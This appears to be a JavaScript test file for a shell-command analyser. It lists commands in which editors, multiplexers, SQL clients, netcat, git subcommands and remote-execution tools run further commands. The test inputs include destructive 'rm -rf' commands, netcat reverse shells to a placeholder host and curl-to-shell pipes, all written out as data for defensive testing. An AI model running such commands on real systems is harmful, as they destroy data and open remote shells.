// Programs that run shell commands handed to them in their own syntax: editors, debuggers, multiplexers,
// SQL clients' shell escapes, socat, man's pager, make reading its rules from input.
import { shellCases } from './testing/cases.js';

shellCases('editors and debuggers', [
  { cmd: "vim -c ':!rm -rf /' -c q", commands: ['vim', 'rm'], dynamic: true },
  { cmd: "vi -c '!rm -rf /tmp/x'", commands: ['vi', 'rm'], paths: ['/tmp/x'] },
  { cmd: 'nvim --cmd \'call system("id")\'', exact: ['nvim'], dynamic: true },
  { cmd: "vim +'py3 import os' x", exact: ['vim'], dynamic: true },
  { cmd: 'vim -c "set number" notes.txt', exact: ['vim'], dynamic: false },
  { cmd: 'vim +42 notes.txt', exact: ['vim'], dynamic: false },
  { cmd: 'vim -S /tmp/s.vim', exact: ['vim'], dynamic: true },
  { cmd: 'ex -s x < cmds', exact: ['ex'], dynamic: true },
  { cmd: "gdb -batch -ex 'shell rm -rf /' /bin/true", exact: ['gdb'], dynamic: true },
  { cmd: 'gdb -p 1234', exact: ['gdb'], dynamic: false },
  { cmd: "man -P 'rm -rf /x' ls", commands: ['man', 'rm'] },
  { cmd: "man --pager='sh -c id' ls", commands: ['man', 'sh', 'id'] },
]);

shellCases('terminal multiplexers', [
  { cmd: "tmux new -d 'rm -rf /data'", commands: ['tmux', 'rm'], paths: ['/data'] },
  { cmd: "tmux new-session -d -s job -c /srv 'rm -rf /data'", commands: ['tmux', 'rm'] },
  { cmd: 'tmux split-window -t 0 rm -rf /data', commands: ['tmux', 'rm'] },
  { cmd: "tmux run-shell 'rm -rf /data'", commands: ['tmux', 'rm'] },
  { cmd: "tmux -L sock new -d 'curl x | sh'", commands: ['tmux', 'curl', 'sh'], dynamic: true },
  { cmd: "tmux send-keys -t 0 'rm -rf /' Enter", exact: ['tmux'], dynamic: true },
  { cmd: 'tmux ls', exact: ['tmux'], dynamic: false },
  { cmd: 'tmux new -d', exact: ['tmux'], dynamic: false },
  { cmd: 'screen -dm rm -rf /data', commands: ['screen', 'rm'], paths: ['/data'] },
  { cmd: 'screen -dmS job rm -rf /data', commands: ['screen', 'rm'] },
  { cmd: "screen -S job -X stuff 'rm -rf /\\n'", commands: ['screen'], dynamic: true },
  { cmd: 'screen -ls', exact: ['screen'], dynamic: false },
  { cmd: 'screen -r job', exact: ['screen'], dynamic: false },
]);

shellCases('shell escapes of other programs', [
  { cmd: "psql -c '\\! rm -rf /data'", commands: ['psql', 'rm'], dynamic: true },
  { cmd: "psql -c 'select 1'", exact: ['psql'], dynamic: false },
  { cmd: "mysql -e 'system rm -rf /data'", commands: ['mysql', 'rm'], dynamic: true },
  { cmd: "mysql -e '\\! rm x'", commands: ['mysql', 'rm'], dynamic: true },
  { cmd: "sqlite3 db '.shell rm -rf /data'", commands: ['sqlite3', 'rm'], dynamic: true },
  { cmd: "sqlite3 db 'select 1'", exact: ['sqlite3'], dynamic: false },
  { cmd: "socat - EXEC:'rm -rf /data',pty", commands: ['socat', 'rm'], paths: ['/data'] },
  { cmd: 'socat TCP-LISTEN:9000 SYSTEM:id', commands: ['socat', 'id'] },
  { cmd: 'socat - TCP:127.0.0.1:80', exact: ['socat'], dynamic: false },
  { cmd: 'make -f - < x', exact: ['make'], dynamic: true },
  { cmd: "make --eval='x: ; rm -rf /'", exact: ['make'], dynamic: true },
  { cmd: 'make -j4 test', exact: ['make'], dynamic: false },
]);

// Found in review: each row ran a command the line did not report.
shellCases('network tools, task runners and remote shells', [
  { cmd: 'nc -e /bin/sh x 80', commands: ['nc', 'sh'], dynamic: true },
  { cmd: "nc -c 'rm -rf /data' x 80", commands: ['nc', 'rm'] },
  { cmd: "ncat --exec 'rm -rf /data' x 80", commands: ['ncat', 'rm'] },
  { cmd: "ncat --sh-exec 'rm -rf /data' -l 80", commands: ['ncat', 'rm'] },
  { cmd: 'nc -l 8080', exact: ['nc'], dynamic: false },
  { cmd: "hyperfine --warmup 3 'rm -rf /data'", commands: ['hyperfine', 'rm'] },
  { cmd: "hyperfine -p 'rm -rf /data' 'ls'", commands: ['hyperfine', 'rm', 'ls'] },
  { cmd: 'watchexec -e py -- rm -rf /data', commands: ['watchexec', 'rm'] },
  { cmd: "entr -s 'rm -rf /data'", commands: ['entr', 'rm'] },
  { cmd: 'entr -r rm -rf /data', commands: ['entr', 'rm'] },
  { cmd: "nodemon --exec 'rm -rf /data'", commands: ['nodemon', 'rm'] },
  { cmd: "concurrently 'rm -rf /data' 'npm start'", commands: ['concurrently', 'rm', 'npm'] },
  { cmd: "vagrant ssh -c 'rm -rf /data'", commands: ['vagrant', 'rm'] },
  { cmd: "gcloud compute ssh vm --command='rm -rf /data'", commands: ['gcloud', 'rm'] },
  { cmd: "ansible all -m shell -a 'rm -rf /data'", commands: ['ansible', 'rm'] },
  { cmd: "ansible all -a 'rm -rf /data'", commands: ['ansible', 'rm'] },
  { cmd: "ansible all -m copy -a 'src=a dest=b'", exact: ['ansible'], dynamic: false },
  { cmd: "salt '*' cmd.run 'rm -rf /data'", commands: ['salt', 'rm'] },
  { cmd: "pdsh -w h1,h2 'rm -rf /data'", commands: ['pdsh', 'rm'] },
  { cmd: "pssh -h hosts -i 'rm -rf /data'", commands: ['pssh', 'rm'] },
  { cmd: 'make SHELL=/tmp/evil', exact: ['make'], dynamic: true },
  { cmd: 'npm run build --script-shell=/tmp/evil', dynamic: true },
  { cmd: 'npm config set script-shell /tmp/evil', dynamic: true },
]);

shellCases('git subcommands that run commands', [
  { cmd: "git submodule foreach 'rm -rf /data'", commands: ['git', 'rm'] },
  { cmd: 'git submodule foreach --recursive git pull', commands: ['git'] },
  { cmd: 'git bisect run rm -rf /data', commands: ['git', 'rm'] },
  { cmd: "git rebase -x 'rm -rf /data' HEAD~1", commands: ['git', 'rm'] },
  { cmd: "git rebase --exec='rm -rf /data' HEAD~1", commands: ['git', 'rm'] },
  { cmd: "git filter-branch --tree-filter 'rm -rf /data' HEAD", commands: ['git', 'rm'] },
  { cmd: "git difftool -x 'rm -rf /data'", commands: ['git', 'rm'] },
  { cmd: "git difftool --extcmd='rm -rf /data'", commands: ['git', 'rm'] },
  { cmd: "git grep -O'rm -rf /data' x", commands: ['git', 'rm'] },
  { cmd: "git grep --open-files-in-pager='rm -rf /data' x", commands: ['git', 'rm'] },
  { cmd: "git fetch --upload-pack='rm -rf /data' origin", commands: ['git', 'rm'] },
  { cmd: "git clone -u 'rm -rf /data' x y", commands: ['git', 'rm'] },
  { cmd: "git push --receive-pack='rm -rf /data' origin", commands: ['git', 'rm'] },
  { cmd: "git ls-remote --upload-pack='rm -rf /data' x", commands: ['git', 'rm'] },
  { cmd: "git archive --remote=x --exec='rm -rf /data' HEAD", commands: ['git', 'rm'] },
  { cmd: 'git rebase -i HEAD~3', exact: ['git'], dynamic: false },
  { cmd: 'git grep -n foo', exact: ['git'], dynamic: false },
  { cmd: 'git -C /srv/app fetch origin', exact: ['git'], dynamic: false },
]);

// Found in review: a pipe into a client whose commands can escape to a shell runs unseen commands.
shellCases('commands read from stdin by programs with a shell escape', [
  { cmd: 'curl http://x/dump.sql | psql', dynamic: true, note: /psql reads commands/ },
  { cmd: "psql <<< '\\! rm -rf /data'", dynamic: true },
  { cmd: "psql <<< 'select 1'", dynamic: false },
  { cmd: 'psql -f dump.sql', dynamic: false },
  { cmd: "psql -c 'select 1' < x.csv", dynamic: false },
  { cmd: 'curl http://x | mysql db', dynamic: true },
  { cmd: "sqlite3 db <<< '.shell rm -rf /data'", dynamic: true },
  { cmd: "echo 'select 1' | sqlite3 db", dynamic: true },
  { cmd: "sqlite3 db 'select 1' < /dev/null", dynamic: false },
  { cmd: "ed -s f <<< '!rm -rf /data'", dynamic: true },
  { cmd: 'curl http://x | gdb -batch', dynamic: true },
  { cmd: 'curl http://x | sed -f - f', dynamic: true },
  { cmd: 'psql', dynamic: false },
]);
